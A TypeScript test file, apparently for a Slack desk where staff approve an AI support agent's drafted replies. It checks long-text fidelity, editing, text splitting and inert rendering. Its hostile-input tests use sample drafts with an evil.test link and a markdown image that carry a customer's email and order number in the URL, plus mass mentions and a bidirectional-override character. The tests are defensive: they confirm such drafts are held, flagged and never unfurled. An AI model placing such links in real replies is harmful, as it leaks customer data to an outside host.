/** Texts of customers on cards: long ones, hostile ones, and the plain text beside the blocks. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { z } from "zod";
import fc from "fast-check";
import { ReplyArguments } from "#core/values/action.ts";
import { cut, sectionBlocks } from "#slack/api/text.ts";
import { editView } from "#slack/approvals/modals.ts";
import { replying } from "#test/jobs/turn-results.ts";
import { shownText } from "#test/support/slack.ts";
import { eventually } from "#test/slack/bench.ts";
import { onFloor, type Asked, type Floor } from "#test/slack/approvals/desk-floor.ts";
import { assertWithinLimits, sectionText } from "#test/slack/api/limits.ts";
import { CHANNELS, USERS } from "#test/slack/local-slack.ts";
import { bareCheck } from "#test/guard/output/evidence-world.ts";
import { agentUnderTest, CAPS } from "#test/support/fixtures/turns.ts";
import { scriptedModel } from "#test/support/scripted-model.ts";
import { anyCharacter } from "#test/support/any-character.ts";

const Input = z.object({ element: z.object({ initial_value: z.string(), max_length: z.int() }) });
const IN_CONSOLE = "The full text is in the console.";

/** Words that tell every place of a text from every other. */
function longText(characters: number): string {
  const lines = Array.from({ length: characters / 10 }, (_, index) => `word ${10_000 + index}`);
  return lines.map((line, index) => line.padEnd(9, ".") + (index % 7 === 6 ? "\n" : " ")).join("");
}

async function sealedText(floor: Floor, approvalId: string): Promise<string> {
  const { proposal } = await floor.approval(approvalId);
  const reply = proposal?.actions.find(({ action }) => action.operation === "reply");
  return ReplyArguments.parse(reply?.action.arguments).text;
}

onFloor("a long draft", (floor) => {
  const { bench } = floor;

  const drafted = async (text: string): Promise<Asked> => {
    bench.answer(() => replying(text));
    return floor.asked(await bench.write("What does your catalogue say?"));
  };
  const card = async (ts: string) => {
    const found = (await floor.cards()).find((message) => message.ts === ts);
    assert.ok(found);
    assertWithinLimits(found.blocks);
    return found;
  };

  for (const characters of [5_000, 30_000])
    test(`S19 of ${characters} characters: what is approved is what is sent, byte for byte`, async (context) => {
      const text = longText(characters).trim();
      const asked = await drafted(text);
      const shown = await card(asked.ts);
      const sealed = await sealedText(floor, asked.approvalId);
      assert.ok(sealed.includes(text));
      assert.equal(sectionText(shown.blocks).includes(text), characters === 5_000);
      assert.equal(shownText(shown).includes(IN_CONSOLE), characters !== 5_000);
      await floor.click(USERS.sam, asked, "approve");
      await floor.until(context, 1);
      await floor.settle();
      assert.equal(bench.replies().length, 1);
      assert.ok(bench.replies()[0] === sealed);
    });

  test("S19 the whole of a long draft is edited and sent as typed", async (context) => {
    const asked = await drafted(longText(30_000));
    const before = await sealedText(floor, asked.approvalId);
    await floor.openForm(context, USERS.sam, asked, "edit");
    assert.ok((floor.server.people.view()?.blocks.length ?? 0) >= 11);
    await floor.server.people.submit(USERS.sam, { text: "Better words.\n\n*As typed* <b>.\n" });
    await floor.until(context, 1);
    await bench.tick();
    const after = await sealedText(floor, asked.approvalId);
    assert.ok(after.startsWith("Better words.\n\n*As typed* <b>.\n"));
    // Everything behind the part that was changed is as it was.
    assert.equal(after.slice(-20_000), before.slice(-20_000));
    await floor.click(USERS.lea, asked, "approve");
    await floor.until(context, 2);
    await floor.settle();
    assert.ok(bench.replies()[0] === after);
  });
});

const HOSTILE =
  "<!channel> <@U0SAM> <!subteam^S1> <https://evil.test/?d=x|your invoice> *bold* ```` \u202Eevil";

onFloor("hostile words on the desk", (floor) => {
  const { bench } = floor;

  /** Every message that went out, or was changed, said that nothing in it may be looked up. */
  const assertQuiet = (...methods: readonly string[]): void => {
    const messages = floor.calls.filter(({ method }) => method.startsWith("chat."));
    const called = new Set(messages.map(({ method }) => method));
    assert.deepEqual([...called].toSorted(), methods.toSorted());
    for (const { method, parameters } of messages) {
      const { unfurl_links, unfurl_media, link_names, parse } = parameters;
      assert.deepEqual(
        { unfurl_links, unfurl_media, link_names, parse },
        { unfurl_links: "false", unfurl_media: "false", link_names: "false", parse: "none" },
        method,
      );
    }
  };

  test("S18 a draft with a link, an image and a mention waits with a warning, shown as text, and no message of the run may unfurl", async (context) => {
    const draft =
      "Look: https://evil.test/?d=ann@customer.test ![x](https://evil.test/p.png?o=789) <@U0SAM> <!here>";
    const reply = { name: "reply", input: { text: draft, kind: "answer", topic: "other" } };
    const look = { name: "get_order_status", input: { order_id: "456" } };
    const model = scriptedModel([{ calls: [look] }, { calls: [reply] }, { calls: [reply] }]);
    const output = bareCheck;
    const { agent } = agentUnderTest({
      model,
      output,
      caps: () => ({ ...CAPS, confidenceMin: 0 }),
    });
    bench.answer((input) => agent.run(input));
    // Replies of this channel go out by themselves where nothing speaks against it.
    bench.rule({ replyAutonomy: () => "auto" });
    const id = await bench.write("Where is my order 456?", { channel: "chat" });
    model.assertUsedUp();
    assert.deepEqual(bench.replies(), []);
    assert.ok(await bench.pending(id), await bench.outcome(id));
    const asked = await floor.asked(id);
    const shown = await floor.cardText(asked);
    assert.match(shown, /⚠️ Check “.*evil\.test/);
    assert.match(shown, /an image is loaded by being seen/);
    assert.ok(shown.includes("<«@U0SAM»> <!here>"));
    // Ned has no role and is told so; Sam lets it go after all; an alert goes out.
    await floor.click(USERS.ned, asked, "approve");
    await eventually(context, () =>
      assert.ok(floor.calls.some(({ method }) => method === "chat.postEphemeral")),
    );
    await floor.click(USERS.sam, asked, "approve");
    await bench.parts.desk.notify(HOSTILE, ["lea@ourshop.test"], "alert", AbortSignal.timeout(9e3));
    await eventually(context, async () => {
      await bench.tick();
      assert.ok(floor.calls.some(({ method }) => method === "chat.update"));
    });
    assertQuiet("chat.postEphemeral", "chat.postMessage", "chat.update");
    const alerted = floor.calls.filter(
      ({ parameters }) => parameters["channel"] === CHANNELS.alerts,
    );
    assert.doesNotMatch(alerted.map(({ parameters }) => parameters["text"]).join(), /<!|<http/);
  });
});

const words = fc.string({ unit: anyCharacter, maxLength: 400 });

test("each part of a text that is edited has room to be made longer", () => {
  const form = { approvalId: "apr_1", version: 1, amount: null, currency: null, order: null };
  for (const characters of [2_950, 6_000])
    for (const block of editView({ ...form, text: longText(characters) }, "C1").blocks) {
      const { initial_value: text, max_length: most } = Input.parse(block).element;
      assert.ok(text.length + 900 <= most, `${text.length} of ${most}`);
    }
});

test("a text cut into pieces and joined again is the same text", () => {
  fc.assert(
    fc.property(words, fc.integer({ min: 2, max: 50 }), (text, max) => {
      const pieces = cut(text, max);
      assert.equal(pieces.map((piece) => piece.text + piece.joint).join(""), text);
      for (const piece of pieces) assert.ok(piece.text.length <= max);
    }),
  );
});

test("markup is used only where it shows exactly the same characters", () => {
  const risky = [
    "a *b*",
    "<!channel>",
    "&amp;",
    "`x`",
    "_x_",
    ":tada:",
    "https://evil.test",
    "~x~",
  ];
  for (const text of risky)
    assert.equal(
      sectionBlocks(text, { manner: "inert", sectionsMax: 9 })[0]?.text?.type,
      "plain_text",
    );
  const [plain] = sectionBlocks("Hello Ann,\nsee order_789.", { manner: "inert", sectionsMax: 9 });
  assert.deepEqual(plain?.text, {
    type: "mrkdwn",
    text: "Hello Ann,\nsee order_789.",
    verbatim: true,
  });
});

test("a reply's web address becomes a link, but never beside a name that Slack could find", () => {
  const objects = ["See https://a.test/x", "See https://a.test/x @channel"].map(
    (text) => sectionBlocks(text, { manner: "linked", sectionsMax: 9 })[0]?.text,
  );
  assert.deepEqual(
    objects.map((object) => object?.type === "mrkdwn" && object.verbatim),
    [false, true],
  );
});
